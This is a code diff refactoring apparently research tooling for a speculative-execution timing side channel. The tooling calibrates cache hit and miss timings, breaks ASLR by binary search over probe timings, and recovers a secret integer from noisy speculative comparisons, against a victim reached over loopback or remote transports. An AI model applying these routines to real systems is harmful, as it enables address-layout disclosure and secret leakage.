@@ -184,13 +184,12 @@ class Session:
             n, lambda v: v.batch_leak_avx(bit_index, n, m, plan.avx_wait_ns, index))
 
     def collect_corner(self, channel: str, corner: str, n: int,
-                       plan: Optional[ExtractionPlan] = None,
-                       space_bits: Optional[int] = None) -> np.ndarray:
+                       plan: Optional[ExtractionPlan] = None) -> np.ndarray:
         plan = plan or ExtractionPlan()
         return self._collect(
-            self.corner_schedule(channel, corner, plan, space_bits), n,
+            self.corner_schedule(channel, corner, plan), n,
             lambda v: v.batch_corner(channel, corner, n, plan.reset_bytes,
-                                     plan.avx_wait_ns, space_bits))
+                                     plan.avx_wait_ns))
 
     def collect_value(self, guess: int, n: int,
                       plan: Optional[ExtractionPlan] = None) -> np.ndarray:
@@ -205,16 +204,10 @@ class Session:
         return self._collect(wire.aslr_schedule(lo, hi, mistrain), n,
                              lambda v: v.batch_aslr_check(lo, hi, n, mistrain))
 
-    def corner_schedule(self, channel: str, corner: str, plan: ExtractionPlan,
-                        space_bits: Optional[int] = None) -> list:
-        """``wire.corner_schedule`` for ``plan``; only a loopback victim can
-        supply the layout corners' ``space_bits`` when it is not given."""
-        if space_bits is None and channel == "aslr":
-            if not isinstance(self.transport, LoopbackTransport):
-                raise ValueError("a remote layout corner needs space_bits")
-            space_bits = self.transport.victim.config.aslr_space_bits
-        return wire.corner_schedule(channel, corner, space_bits,
-                                    plan.reset_bytes, plan.avx_wait_ns)
+    def corner_schedule(self, channel: str, corner: str, plan: ExtractionPlan) -> list:
+        """``wire.corner_schedule`` for ``plan``."""
+        return wire.corner_schedule(channel, corner, plan.reset_bytes,
+                                    plan.avx_wait_ns)
 
     def moments(self, schedule: list, n: int,
                 collect: Callable[[int], np.ndarray]) -> tuple[float, float]:
@@ -265,10 +258,8 @@ def loopback_session(cfg: VictimConfig, seed: int) -> Session:
 # ---------------------------------------------------------------------------
 
 def calibrate(session: Session, plan: ExtractionPlan,
-              n: Optional[int] = None, channel: Optional[str] = None,
-              space_bits: Optional[int] = None) -> Calibration:
-    """Measure the two known corner cases and derive the decision threshold
-    (``space_bits``: the layout corners' probe space; remote targets need it).
+              n: Optional[int] = None, channel: Optional[str] = None) -> Calibration:
+    """Measure the two known corner cases and derive the decision threshold.
 
     Fails when the corner means are statistically indistinguishable at the
     chosen sample count; the fix is to raise n.
@@ -278,8 +269,8 @@ def calibrate(session: Session, plan: ExtractionPlan,
 
     def corner(name: str) -> tuple[float, float]:
         return session.moments(
-            session.corner_schedule(channel, name, plan, space_bits), n,
-            lambda k: session.collect_corner(channel, name, k, plan, space_bits))
+            session.corner_schedule(channel, name, plan), n,
+            lambda k: session.collect_corner(channel, name, k, plan))
 
     mean_hit, var_hit = corner("hit")
     mean_miss, var_miss = corner("miss")
@@ -437,12 +428,14 @@ def break_aslr(session: Session, aslr_space_bits: int, probes_per_check: int,
     Each round speculatively probes one half of the remaining range and
     times the fixed-address function; a cache hit selects that half.  Both
     halves are measured so an inconsistent round (hit in neither or both)
-    can be detected and retried.
+    can be detected and retried.  The space must fit the probe's 32-bit
+    fields: at most wire.MAX_SPACE_BITS bits.
     """
+    if not 0 <= aslr_space_bits <= wire.MAX_SPACE_BITS:
+        raise ValueError(f"aslr_space_bits outside [0, {wire.MAX_SPACE_BITS}]")
     if calib is None:
         plan = ExtractionPlan(measurements_per_bit=probes_per_check)
-        calib = calibrate(session, plan, n=probes_per_check, channel="aslr",
-                          space_bits=aslr_space_bits)
+        calib = calibrate(session, plan, n=probes_per_check, channel="aslr")
 
     def mean(lo: int, hi: int) -> float:
         return session.moments(
@@ -539,8 +532,7 @@ def _compare_sequentially(session: Session, guess: int, n: int,
 
 
 def value_threshold_search(session: Session, value_bits: int,
-                           plan: ExtractionPlan, calib: Calibration,
-                           probes_per_round: Optional[int] = None) -> ValueResult:
+                           plan: ExtractionPlan, calib: Calibration) -> ValueResult:
     """Recover a k-bit secret integer by a binary search over noisy
     speculative comparisons.
 
@@ -559,7 +551,7 @@ def value_threshold_search(session: Session, value_bits: int,
     a round still undecided after _ROUND_PATIENCE times the comparisons
     Wald's test expects on a signal-free channel.
     """
-    n = probes_per_round or plan.measurements_per_bit
+    n = plan.measurements_per_bit
     margin = _MARGIN_SE * calib.threshold_se_ns
     half_gap = 0.5 * (calib.mean_miss_ns - calib.mean_hit_ns) - margin
     if half_gap <= 0:
